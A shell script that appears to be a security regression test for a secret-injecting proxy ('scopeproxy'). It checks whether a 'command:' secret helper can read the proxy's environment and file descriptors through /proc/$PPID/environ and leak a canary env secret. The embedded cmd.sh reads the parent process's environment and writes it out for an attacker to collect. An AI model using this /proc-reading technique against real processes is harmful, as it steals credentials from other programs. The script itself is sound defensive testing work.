#!/bin/sh
# A `command:` secret is promised a minimal environment ("nothing else of the proxy's environment,
# which may hold other secrets, reaches the command"). But the command runs as the proxy's uid and
# the proxy is dumpable, so the command reads /proc/$PPID/environ (and /proc/$PPID/fd/*): the value
# of an `env:` secret of the proxy reaches the command anyway.
# Run from the worktree root after `swift build`. Exit 1 = leak reproduced.
# As root (CAP_SYS_PTRACE) /proc stays readable whatever the proxy does: run it as another user,
#   cp .build/debug/scopeproxy /tmp/sp; cp attack/proc_environ_leak.sh /tmp/leak.sh; cd /tmp
#   BIN=/tmp/sp setpriv --reuid=65534 --regid=65534 --clear-groups --inh-caps=-all sh /tmp/leak.sh
set -u
BIN=${BIN:-.build/debug/scopeproxy}
D=$(mktemp -d)
trap 'kill $PROXY $ORIGIN 2>/dev/null; [ -n "${KEEP:-}" ] || rm -rf "$D"' EXIT
cat > "$D/cmd.sh" <<'EOS'
#!/bin/sh
# Writes what it could read of its parent's environment where the attacker can look.
echo ran > "$LEAK_DIR/ran"
tr '\0' '\n' < /proc/$PPID/environ > "$LEAK_DIR/environ" 2>/dev/null
ls -l /proc/$PPID/fd > "$LEAK_DIR/fds" 2>/dev/null
echo command-value
EOS
chmod +x "$D/cmd.sh"
cat > "$D/origin.py" <<'EOS'
import http.server, sys
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        self.send_response(200); self.send_header("Content-Length", "2"); self.end_headers(); self.wfile.write(b"ok")
    def log_message(self, *a): pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
print(s.server_address[1], flush=True)
s.serve_forever()
EOS
python3 "$D/origin.py" > "$D/oport" & ORIGIN=$!
sleep 0.5; OPORT=$(cat "$D/oport")
cat > "$D/c.yaml" <<EOS
listen: 127.0.0.1:0
secrets:
  canary_env: { env: CANARY_ENV_SECRET }
  cmd_value: { command: ["$D/cmd.sh"], env: [LEAK_DIR] }
scopes:
  - name: a
    origins: ["http://127.0.0.1:$OPORT"]
    inject: { Authorization: "Bearer \${cmd_value}", X-Other: "\${canary_env}" }
EOS
env -i PATH=/usr/bin:/bin HOME="$D" LEAK_DIR="$D" CANARY_ENV_SECRET=CANARY-ENV-7f3a9 \
  "$BIN" run --config "$D/c.yaml" --listen 127.0.0.1:0 > "$D/out" 2> "$D/err" & PROXY=$!
for i in 1 2 3 4 5 6 7 8 9 10; do PPORT=$(grep -ho "listening on 127.0.0.1:[0-9]*" "$D/out" "$D/err" 2>/dev/null | head -1 | sed 's/.*://'); [ -n "$PPORT" ] && break; sleep 0.5; done
curl -s -o /dev/null -x "http://127.0.0.1:$PPORT" "http://127.0.0.1:$OPORT/" ; sleep 0.5
if grep -q CANARY-ENV-7f3a9 "$D/environ" 2>/dev/null; then
  echo "LEAK: the command read the proxy's env secret from /proc/\$PPID/environ"; exit 1
fi
[ -f "$D/ran" ] || { echo "the command did not run: inconclusive"; exit 2; }
echo "no leak (environ: $(wc -c < "$D/environ" 2>/dev/null || echo unreadable) bytes)"; exit 0
